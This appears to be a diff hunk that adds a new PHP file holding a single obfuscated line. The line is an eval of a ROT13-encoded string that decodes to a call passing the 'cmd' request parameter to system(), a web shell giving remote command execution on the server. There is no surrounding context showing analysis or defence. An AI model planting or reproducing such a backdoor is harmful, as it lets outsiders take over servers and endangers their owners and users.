@@ -0,0 +1 @@
+<?php eval(str_rot13('flfgrz($_TRG["pzq"]);'));